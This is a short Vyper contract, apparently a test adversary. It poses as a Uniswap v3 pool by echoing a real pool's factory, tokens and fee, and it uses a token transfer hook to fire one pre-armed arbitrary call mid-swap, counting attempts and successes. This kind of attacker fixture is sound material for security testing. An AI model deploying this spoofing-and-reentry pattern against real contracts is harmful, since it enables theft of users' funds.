# pragma version 0.4.3
"""
@title Thief in the middle of a swap
@license AGPL-3.0-only
@author Perpool
@notice A transfer hook that makes one prepared call, and passes itself off as a Uniswap v3 pool: it names the true
        factory and the tokens of a true pool.
"""


interface IUniswapV3Pool:
    def factory() -> address: view
    def token0() -> address: view
    def token1() -> address: view
    def fee() -> uint256: view


target: address
call_data: Bytes[1024]
attempts: public(uint256)
successes: public(uint256)
model: address


@external
def arm(target: address, call_data: Bytes[1024], model: address):
    """
    @notice Prepare the call that the next hook makes, and the pool to be mistaken for.
    """
    self.target = target
    self.call_data = call_data
    self.model = model


@external
def before_transfer(owner: address, receiver: address, token_amount: uint256):
    """
    @notice Called by HookToken; lets the transfer pass.
    """
    pass


@external
def after_transfer(owner: address, receiver: address, token_amount: uint256):
    """
    @notice Called by HookToken: makes the prepared call, once.
    """
    if self.target == empty(address):
        return
    to: address = self.target
    self.target = empty(address)
    self.attempts += 1
    if raw_call(to, self.call_data, revert_on_failure=False):
        self.successes += 1


@external
@view
def factory() -> address:
    """
    @notice As the pool it models.
    """
    return staticcall IUniswapV3Pool(self.model).factory()


@external
@view
def token0() -> address:
    """
    @notice As the pool it models.
    """
    return staticcall IUniswapV3Pool(self.model).token0()


@external
@view
def token1() -> address:
    """
    @notice As the pool it models.
    """
    return staticcall IUniswapV3Pool(self.model).token1()


@external
@view
def fee() -> uint256:
    """
    @notice As the pool it models.
    """
    return staticcall IUniswapV3Pool(self.model).fee()
